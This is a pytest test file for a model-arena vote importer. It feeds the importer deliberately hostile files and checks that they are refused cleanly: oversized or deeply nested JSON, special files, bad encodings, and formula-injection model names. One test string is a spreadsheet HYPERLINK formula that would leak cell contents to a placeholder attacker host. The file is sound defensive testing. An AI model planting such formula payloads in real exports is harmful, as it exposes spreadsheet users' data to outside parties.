"""Files made to hurt: a model against itself, special files, files past the limits, deep or
badly encoded JSON, formula model names. Each is refused with the row and the file named,
before anything is written, with memory bounded."""

import json
import subprocess
import sys

import pandas as pd
import pytest
from cli_helpers import arena, arena_process
from conftest import ROOT
from db_helpers import count_battles
from seed import write_votes

from arena.db import Store
from arena.files import checks, read
from arena.files.checks import ImportRejected, VoteFileError
from arena.files.export import write_export
from arena.files.importer import import_file
from arena.records import Battle, Side, Vote


@pytest.fixture
def source(tmp_path) -> Store:
    """Three voted battles between two models."""
    store = Store(tmp_path / "source.db")
    battles = [Battle(category="coding", prompt=f"task {k}", system_prompt="", options={},
                      side_a=Side("qwen3:8b", think="on", answer="a"),
                      side_b=Side("llama3.2:3b", answer="b"),
                      created_at=f"2026-11-1{k}T08:00:00.000Z") for k in range(3)]
    store.save_battles(battles, [Vote(b.id, "model_a", "ann", "2026-11-20T08:00:00.000Z")
                                 for b in battles])
    return store


def flat_export(source: Store, path, change) -> None:
    """`source` exported flat (CSV or Parquet) at `path`, `change(frame)` applied first."""
    form = path.suffix[1:]
    write_export(source, path, form)
    if form == "csv":
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        change(frame)
        frame.to_csv(path, index=False)
    else:
        frame = pd.read_parquet(path)
        change(frame)
        frame.to_parquet(path)


def nested_export(source: Store, path, change) -> None:
    """`source` as our JSON Lines export at `path`, `change(record, row)` applied to each."""
    write_export(source, path, "jsonl")
    records = [json.loads(line) for line in path.read_text().splitlines()]
    for row, record in enumerate(records, start=1):
        change(record, row)
    path.write_text("".join(json.dumps(r) + "\n" for r in records))


def refused(store: Store, path, match: str) -> str:
    with pytest.raises((ImportRejected, VoteFileError), match=match) as caught:
        import_file(store, path)
    assert count_battles(store) == 0 and store.count_votes() == 0
    return str(caught.value)


# --- a model against itself -----------------------------------------------------------------


def _itself(frame: pd.DataFrame) -> None:
    for name in ("model", "ollama_model", "think"):
        frame.loc[1, f"{name}_b"] = frame.loc[1, f"{name}_a"]


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_a_model_against_itself_is_refused_in_our_flat_files(tmp_path, source, form):
    path = tmp_path / f"votes.{form}"
    flat_export(source, path, _itself)
    refused(Store(tmp_path / "arena.db"), path,
            r"row 2: model_a and model_b are the same model \(qwen3:8b \(thinking\)\)")


def test_a_model_against_itself_is_refused_in_our_json_lines(tmp_path, source):
    def itself(record, row):
        if row == 3:
            record["side_b"].update(model="qwen3:8b", think="on")
            record["model_b"] = record["model_a"]

    path = tmp_path / "votes.jsonl"
    nested_export(source, path, itself)
    refused(Store(tmp_path / "arena.db"), path, r"votes.jsonl: row 3: model_a and model_b are "
                                                r"the same model")


def test_the_same_model_with_thinking_on_and_off_is_two_contestants(tmp_path, source):
    def other_mode(record, row):
        record["side_b"].update(model="qwen3:8b", think="off")

    path = tmp_path / "votes.jsonl"
    nested_export(source, path, other_mode)
    assert import_file(Store(tmp_path / "arena.db"), path).added == 3


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_a_model_against_itself_in_chatbot_arena_rows_and_for_the_leaderboard(tmp_path, form):
    path = tmp_path / f"votes.{form}"
    frame = pd.DataFrame({"model_a": ["x", "y", "z"], "model_b": ["y", "y", "x"],
                          "winner": ["model_a", "tie", "model_b"]})
    write_votes(frame, path)
    refused(Store(tmp_path / "arena.db"), path, "row 2: model_a and model_b are the same model")
    done = arena("leaderboard", "--from", str(path))
    assert done.returncode == 1
    assert "row 2: model_a and model_b are the same model" in done.stderr
    assert "Traceback" not in done.stderr


# --- formula model names in every CSV we write --------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _formula_votes(tmp_path):
    path = tmp_path / "votes.csv"
    pd.DataFrame({"model_a": [FORMULA, "@SUM(1)", "plain"] * 4,
                  "model_b": ["plain", "+cmd", FORMULA] * 4,
                  "winner": ["model_a", "tie", "model_b"] * 4}).to_csv(path, index=False)
    return path


def _cells(text: str) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_the_cli_leaderboard_csv_neutralises_formula_names(tmp_path):
    path = _formula_votes(tmp_path)
    from_file = arena("leaderboard", "--from", str(path), "--format", "csv", "--rounds", "5")
    assert from_file.returncode == 0, from_file.stderr
    db = tmp_path / "arena.db"
    assert arena("import", str(path), "--db", str(db)).returncode == 0
    from_db = arena("leaderboard", "--db", str(db), "--format", "csv", "--rounds", "5")
    for out in (from_file.stdout, from_db.stdout):
        cells = _cells(out)
        assert "'" + FORMULA in cells and "'@SUM(1)" in cells and "'+cmd" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
        # Ratings, even negative ones, stay numbers.
        assert pd.read_csv(pd.io.common.StringIO(out))["rating"].dtype == float


def test_the_leaderboard_page_download_neutralises_formula_names(tmp_path):
    from functools import partial

    from arena import ratings
    from arena.i18n import translate
    from arena.ui.leaderboard_view import download_csv

    votes = pd.read_csv(_formula_votes(tmp_path))
    board = ratings.leaderboard(ratings.count_table(votes), rounds=5)
    for language in ("en", "zh"):
        t = partial(translate, language)
        text = download_csv(board, t).decode("utf-8-sig")
        cells = _cells(text)
        assert "'" + FORMULA in cells and "'@SUM(1)" in cells and "'+cmd" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
        shown = pd.read_csv(pd.io.common.StringIO(text))
        low, high = t("board.col.ci_low"), t("board.col.ci_high")
        assert (shown[low] <= shown[t("board.col.rating")]).all()
        assert (shown[t("board.col.rating")] <= shown[high]).all()


@pytest.mark.parametrize("name, message", [
    ("bell\x07model", r"row 2: model_a has a control character \(U\+0007\)"),
    ("new\nline", r"row 2: model_a has a control character \(U\+000A\)"),
    ("del\x7f", r"row 2: model_a has a control character \(U\+007F\)"),
    ("m" * 201, r"row 2: model_a is 201 characters long \(ARENA_IMPORT_MAX_NAME_CHARS=200\)"),
])
@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_model_names_with_control_characters_or_too_long_are_refused(tmp_path, name, message,
                                                                      form):
    path = tmp_path / f"votes.{form}"
    frame = pd.DataFrame({"model_a": ["x", name, "y"], "model_b": ["y", "y", "x"],
                          "winner": ["model_a", "tie", "model_b"]})
    write_votes(frame, path)
    refused(Store(tmp_path / "arena.db"), path, message)


def test_model_names_in_our_own_format_are_checked_too(tmp_path, source):
    def bad(record, row):
        if row == 2:
            record["side_b"]["model"] = "tab\there"

    path = tmp_path / "votes.jsonl"
    nested_export(source, path, bad)
    refused(Store(tmp_path / "arena.db"), path,
            r"row 2: ollama_model_b has a control character \(U\+0009\)")


# --- not a regular file, too big, too many rows or columns, too long a value ---------------


def _limits(**changes):
    from dataclasses import replace

    from arena.settings import ImportLimits

    return replace(ImportLimits(), **changes)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory"])
def test_only_regular_files_are_read(tmp_path, kind):
    import os

    path = tmp_path / "votes.jsonl"
    if kind == "fifo":
        os.mkfifo(path)  # reading it would wait for a writer for ever
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")  # reading it never ends, and fills the memory
    else:
        path.mkdir()
    store = Store(tmp_path / "arena.db")
    refused(store, path, "votes.jsonl: not a regular file")
    # The command line too, in a process of its own, quickly.
    done = arena_process("import", str(path), "--db", str(tmp_path / "arena.db"), timeout=60)
    assert done.returncode == 1 and "not a regular file" in done.stderr
    board = arena_process("leaderboard", "--from", str(path), timeout=60)
    assert board.returncode == 1 and "not a regular file" in board.stderr


def test_a_file_over_the_size_limit_is_not_read(tmp_path, monkeypatch):
    path = tmp_path / "votes.csv"
    with open(path, "wb") as out:  # 3 MB of one line, no newline
        out.write(b"model_a,model_b,winner\n" + b"x" * 3_000_000)
    with pytest.raises(VoteFileError, match=r"votes.csv: 2.9 MB, over the import limit of 2 MB "
                                            r"\(ARENA_IMPORT_MAX_MB\)"):
        import_file(Store(tmp_path / "arena.db"), path, _limits(max_mb=2))
    monkeypatch.setenv("ARENA_IMPORT_MAX_MB", "2")
    done = arena("import", str(path), "--db", str(tmp_path / "arena.db"))
    assert done.returncode == 1 and "ARENA_IMPORT_MAX_MB" in done.stderr


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_rows_and_columns_past_the_limits(tmp_path, form):
    path = tmp_path / f"votes.{form}"
    frame = pd.DataFrame({"model_a": ["x"] * 30, "model_b": ["y"] * 30, "winner": ["tie"] * 30,
                          **{f"extra{k}": ["e"] * 30 for k in range(10)}})
    write_votes(frame, path)
    store = Store(tmp_path / "arena.db")
    with pytest.raises(VoteFileError, match=r"more than 20 rows, the import limit "
                                            r"\(ARENA_IMPORT_MAX_ROWS\)"):
        import_file(store, path, _limits(max_rows=20))
    with pytest.raises(VoteFileError, match=r"13 columns, over the import limit of 12 "
                                            r"\(ARENA_IMPORT_MAX_COLUMNS\)"):
        import_file(store, path, _limits(max_columns=12))
    assert import_file(store, path, _limits(max_rows=30, max_columns=13)).added == 30


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_a_value_past_the_length_limit_is_named_with_its_row(tmp_path, source, form):
    path = tmp_path / f"votes.{form}"
    if form == "jsonl":
        nested_export(source, path, lambda r, row: row == 2 and r["side_a"].update(
            answer="y" * 1001))
    else:
        def long_answer(frame):
            frame.loc[1, "answer_a"] = "y" * 1001
        flat_export(source, path, long_answer)
    with pytest.raises(ImportRejected, match=r"row 2: answer_a is 1,001 characters long "
                                             r"\(ARENA_IMPORT_MAX_FIELD_CHARS=1,000\)"):
        import_file(Store(tmp_path / "arena.db"), path, _limits(max_field_chars=1000))


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_the_set_fields_are_held_to_the_same_limits(tmp_path, source, form):
    """A battle's prompt set, item and expected answer: text like any other, names like a
    model's."""
    def change(set_name: str, item_id: str, expected: str):
        def flat(frame):
            frame.loc[1, ["prompt_set", "item_id", "expected"]] = [set_name, item_id, expected]

        def nested(record, row):
            if row == 2:
                record.update(prompt_set=set_name, item_id=item_id, expected=expected)
        return nested if form == "jsonl" else flat

    path = tmp_path / f"votes.{form}"
    export = nested_export if form == "jsonl" else flat_export
    store = Store(tmp_path / "arena.db")
    export(source, path, change("集", "r1", "长" * 1001))
    with pytest.raises(ImportRejected, match=r": row 2: expected is 1,001 characters long "
                                             r"\(ARENA_IMPORT_MAX_FIELD_CHARS=1,000\)$"):
        import_file(store, path, _limits(max_field_chars=1000))
    export(source, path, change("集" * 201, "id\u200b\x1b", "长" * 1000))
    with pytest.raises(ImportRejected, match=r": row 2: prompt_set is 201 characters long "
                                             r"\(ARENA_IMPORT_MAX_NAME_CHARS=200\); row 2: "
                                             r"item_id has a control character \(U\+001B\)$"):
        import_file(store, path, _limits(max_field_chars=1000))
    assert count_battles(store) == 0
    export(source, path, change("集" * 200, "条目 1", "长" * 1000))  # at the limits: kept
    assert import_file(store, path, _limits(max_field_chars=1000)).added == 3
    assert store.get_battle(read.read_import(path)["id"][2]).prompt_set == "集" * 200


def test_settings_name_the_limits():
    from arena.settings import SettingsError, load_settings

    s = load_settings({"ARENA_IMPORT_MAX_MB": "1.5", "ARENA_IMPORT_MAX_ROWS": "10",
                       "ARENA_IMPORT_MAX_COLUMNS": "9", "ARENA_IMPORT_MAX_FIELD_CHARS": "99",
                       "ARENA_IMPORT_MAX_NAME_CHARS": "50"})
    assert s.imports == _limits(max_mb=1.5, max_rows=10, max_columns=9, max_field_chars=99,
                                max_name_chars=50)
    assert load_settings({}).imports.max_field_chars >= 2_000_000  # a long answer is fine
    with pytest.raises(SettingsError, match="ARENA_IMPORT_MAX_ROWS"):
        load_settings({"ARENA_IMPORT_MAX_ROWS": "0"})


# --- Parquet of lists and records ------------------------------------------------------------


def test_parquet_columns_of_lists_or_records_are_refused(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "votes.parquet"
    pq.write_table(pa.table({"model_a": [["m1", "m2"], ["m3"]], "model_b": ["y", "y"],
                             "winner": [{"who": "a"}, {"who": "b"}]}), path)
    message = (r"votes.parquet: column\(s\) holding lists, records or bytes rather than single "
               r"values: model_a \(list<element: string>\), winner \(struct<who: string>\)")
    refused(Store(tmp_path / "arena.db"), path, message)
    done = arena("leaderboard", "--from", str(path))
    assert done.returncode == 1 and "holding lists" in done.stderr


# --- deep JSON, lone surrogates, bytes that are not UTF-8 ---------------------------------


def _good_line() -> str:
    return json.dumps({"model_a": "x", "model_b": "y", "winner": "tie"})


@pytest.mark.parametrize("name", ["votes.jsonl", "clean_battle.json"])
def test_deeply_nested_json_is_a_row_error(tmp_path, name):
    deep = '{"model_a": "x", "model_b": "y", "winner": ' + "[" * 100_000 + "]" * 100_000 + "}"
    path = tmp_path / name
    if name.endswith(".json"):
        path.write_text("[" + ",".join([_good_line(), _good_line(), deep]) + "]")
    else:
        path.write_text("\n".join([_good_line(), _good_line(), deep]) + "\n")
    refused(Store(tmp_path / "arena.db"), path, f"{name}: row 3: JSON nested too deeply")


def test_deep_json_in_our_own_export_never_reaches_pyarrow(tmp_path, source):
    """pyarrow's JSON reader crashes the whole process (the web server) on a line nested
    some 20,000 deep; our export's first line sends a file to it, so it is looked at first."""
    path = tmp_path / "votes.jsonl"
    nested_export(source, path, lambda r, row: None)
    lines = path.read_text().splitlines()
    deep = json.loads(lines[1])
    text = json.dumps(deep).replace('"options": {}', '"options": ' + '{"a": ' * 50_000
                                    + "1" + "}" * 50_000)
    path.write_text("\n".join([lines[0], text, lines[2]]) + "\n")
    code = ("import sys; from arena.files.importer import import_file\n"
            "from arena.db import Store\n"
            f"try: import_file(Store({str(tmp_path / 'a.db')!r}), {str(path)!r})\n"
            "except ValueError as e: print(e)")
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-500:]
    assert "votes.jsonl: row 2: JSON nested too deeply" in done.stdout
    # The record, its two sides, its vote's list of reasons, its list of images, its follow-ups'
    # list, and the deep options.
    expected = 50_000 + 3 + ('"reasons": [' in text) + ('"images": [' in text) \
        + ('"followups": [' in text)
    assert checks.most_openers_on_a_line(path) == expected
    # An ordinary export is read by pyarrow still.
    nested_export(source, path, lambda r, row: None)
    assert read._arrow_nested_frame(path) is not None


@pytest.mark.parametrize("form", ["jsonl", "json"])
def test_a_lone_surrogate_is_a_row_error(tmp_path, form):
    path = tmp_path / f"votes.{form}"
    bad = '{"model_a": "x\\ud800", "model_b": "y", "winner": "tie"}'
    rows = [_good_line(), bad, _good_line()]
    path.write_text("[" + ",".join(rows) + "]" if form == "json" else "\n".join(rows) + "\n")
    refused(Store(tmp_path / "arena.db"), path,
            rf"votes.{form}: row 2: model_a is not valid text: a lone surrogate \(U\+D800\) at "
            r"character 2")


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_bytes_that_are_not_utf8_are_a_row_error(tmp_path, form):
    path = tmp_path / f"votes.{form}"
    if form == "csv":
        path.write_bytes(b"model_a,model_b,winner\nx,y,tie\nx,y\xff\xfe,tie\nx,y,tie\n")
        message = r"votes.csv: row 2: model_b is not valid text: invalid UTF-8 bytes at char"
    else:
        path.write_bytes((_good_line() + "\n").encode() + b'{"model_a": "x", "model_b": "y",'
                         b' "winner": "tie", "prompt": "\xc3("}\n')
        message = r"votes.jsonl: row 2: prompt is not valid text: invalid UTF-8 bytes"
    refused(Store(tmp_path / "arena.db"), path, message)


def test_our_own_export_with_bad_bytes_is_read_line_by_line(tmp_path, source):
    path = tmp_path / "votes.jsonl"
    nested_export(source, path, lambda r, row: None)
    data = path.read_bytes().split(b"\n")
    data[2] = data[2].replace(b'"task 2"', b'"task \xff2"')
    path.write_bytes(b"\n".join(data))
    refused(Store(tmp_path / "arena.db"), path,
            r"votes.jsonl: row 3: prompt is not valid text: invalid UTF-8 bytes at character 6")


# --- the web import page: a clear message, never a traceback ----------------------------


def _upload(name: str, data: bytes):
    from apptest_helpers import open_page

    at = open_page("pages/data.py", admin=True)
    at.file_uploader(key="data.upload").upload(name, data, "application/octet-stream").run()
    return at


@pytest.mark.parametrize("name, data, message", [
    ("deep.jsonl", (_good_line() + "\n" + '{"model_a": ' + "[" * 100_000 + "]" * 100_000
                    + "}\n").encode(), "deep.jsonl: row 2: JSON nested too deeply"),
    ("bytes.csv", b"model_a,model_b,winner\nx\xff,y,tie\n",
     "bytes.csv: row 1: model_a is not valid text: invalid UTF-8 bytes"),
    ("surrogate.jsonl", b'{"model_a": "x", "model_b": "\\udfff", "winner": "tie"}\n',
     "surrogate.jsonl: row 1: model_b is not valid text: a lone surrogate"),
    ("itself.csv", b"model_a,model_b,winner\nx,x,tie\n",
     "itself.csv: row 1: model_a and model_b are the same model (x)"),
])
def test_hostile_uploads_are_refused_on_the_page(admin, name, data, message):
    from apptest_helpers import db, texts

    at = _upload(name, data)
    at.button(key="data.import_button").click().run()
    assert not at.exception, texts(at.exception)
    [error] = texts(at.error)
    assert "Nothing was imported" in error and message in error
    assert count_battles(db()) == 0


def test_a_locked_database_is_a_message_on_the_page(admin, monkeypatch):
    """Another connection holds the write lock for longer than the store waits for it."""
    import sqlite3

    monkeypatch.setenv("ARENA_DB_BUSY_TIMEOUT_S", "1")  # the page's store waits as they say
    from apptest_helpers import db, texts

    at = _upload("votes.csv", b"model_a,model_b,winner\nx,y,tie\n")
    holder = sqlite3.connect(db().path, isolation_level=None)
    try:
        holder.execute("BEGIN IMMEDIATE")
        at.button(key="data.import_button").click().run(timeout=90)
    finally:
        holder.rollback()
        holder.close()
    assert not at.exception, texts(at.exception)
    [error] = texts(at.error)
    assert "Nothing was imported: the database is busy" in error and "locked" in error
    assert count_battles(db()) == 0


# --- memory stays bounded -------------------------------------------------------------------

_PEAK = ("import resource, sys\n"
         "from arena.cli import main\n"
         "code = main(sys.argv[1:])\n"
         "print('PEAK', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, code)\n")


def _peak_mb(tmp_path, path) -> tuple[int, str]:
    """(peak memory in MB, error line) of `python -m arena import path` in a fresh process."""
    done = subprocess.run([sys.executable, "-c", _PEAK, "import", str(path), "--db",
                           str(tmp_path / "peak.db")], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    peak = int(done.stdout.split("PEAK")[1].split()[0])
    return peak, done.stderr


def test_memory_stays_bounded_for_special_files_and_one_huge_line(tmp_path):
    small = tmp_path / "small.csv"
    small.write_text("model_a,model_b,winner\nx,y,tie\n")
    base, _ = _peak_mb(tmp_path, small)
    zero = tmp_path / "zero.jsonl"
    zero.symlink_to("/dev/zero")
    peak, error = _peak_mb(tmp_path, zero)
    assert "not a regular file" in error and peak < base + 20
    size = 30_000_000  # one line, one value of 30 MB, no newline
    for name, head in (("huge.jsonl", '{"model_a": "x", "model_b": "y", "winner": "tie", '
                                      '"prompt": "'),
                       ("huge.csv", "model_a,model_b,winner,prompt\nx,y,tie,")):
        path = tmp_path / name
        path.write_text(head + "p" * size + ('"}' if name.endswith("jsonl") else ""))
        peak, error = _peak_mb(tmp_path, path)
        assert "row 1: prompt is 30,000,000 characters long" in error
        assert peak - base < 5 * size / 1e6, (name, peak, base)


def test_the_import_page_in_a_browser_says_why_in_both_languages(page, tmp_path):
    """A real server and Chromium (this computer, so admin): a hostile upload is a message in
    English and in Chinese, never a traceback, and the server keeps running."""
    import tempfile
    from pathlib import Path

    from browser_helpers import streamlit_server, wait_idle
    from playwright.sync_api import expect

    shots = Path(tempfile.gettempdir()) / "arena-screenshots"
    shots.mkdir(parents=True, exist_ok=True)
    upload = tmp_path / "deep.jsonl"
    upload.write_text(_good_line() + "\n" + '{"model_a": ' + "[" * 100_000 + "]" * 100_000
                      + "}\n")
    for language, title, button, failed in (
            ("en", "Import battles", "Import", "Nothing was imported"),
            ("zh", "导入对战", "导入", "未导入任何内容")):
        env = {"ARENA_DB": str(tmp_path / "arena.db"), "ARENA_LANG": language,
               "OLLAMA_HOST": "127.0.0.1:9"}
        with streamlit_server(env, tmp_path / f"streamlit-{language}.log") as url:
            page.goto(url + "/data")
            wait_idle(page)
            page.get_by_text(title, exact=True).click()
            page.locator("input[type='file']").set_input_files(str(upload))
            page.get_by_role("button", name=button, exact=True).click()
            message = page.get_by_text(failed)
            expect(message).to_be_visible(timeout=30_000)
            expect(message).to_contain_text("deep.jsonl: row 2: JSON nested too deeply")
            assert page.get_by_text("Traceback").count() == 0
            page.screenshot(path=str(shots / f"import-refused-{language}.png"), full_page=True)
    assert count_battles(Store(tmp_path / "arena.db")) == 0


@pytest.mark.parametrize("options, message", [
    ({"k": "\ud800"}, "row 2: options is not valid text"),
    ('{"k": "\\udc80"}', "row 2: options is not valid text"),
    ("deep", "row 2: options nested too deeply"),
])
def test_options_must_be_valid_text_and_shallow(tmp_path, source, options, message):
    """Such options would be stored (escaped) and then break every later export."""
    def change(record, row):
        if row == 2:
            record["options"] = options

    path = tmp_path / "votes.jsonl"
    nested_export(source, path, change)
    if options == "deep":  # a JSON text in the options field, nested deeper than Python goes
        lines = path.read_text().splitlines()
        lines[1] = lines[1].replace('"options": "deep"', '"options": "'
                                    + '{\\"a\\": ' * 3000 + "1" + "}" * 3000 + '"')
        path.write_text("\n".join(lines) + "\n")
    refused(Store(tmp_path / "arena.db"), path, message)


@pytest.mark.parametrize("form", ["jsonl", "json"])
def test_lists_and_objects_where_one_value_belongs_are_refused(tmp_path, form):
    path = tmp_path / f"votes.{form}"
    rows = ['{"model_a": ["m1", "m2"], "model_b": "y", "winner": "tie"}', _good_line(),
            '{"model_a": "x", "model_b": {"a": 1}, "winner": "tie"}']
    path.write_text("[" + ",".join(rows) + "]" if form == "json" else "\n".join(rows) + "\n")
    message = refused(Store(tmp_path / "arena.db"), path, f"votes.{form}: row 1: model_a is a "
                                                          "list, not a single value")
    assert "row 3: model_b is an object, not a single value" in message


def test_a_side_field_that_is_an_object_is_refused_in_our_export(tmp_path, source):
    path = tmp_path / "votes.jsonl"
    nested_export(source, path, lambda r, row: row == 3 and r["side_b"].update(
        answer={"text": "b"}))
    refused(Store(tmp_path / "arena.db"), path, "row 3: answer_b is an object, not a single")
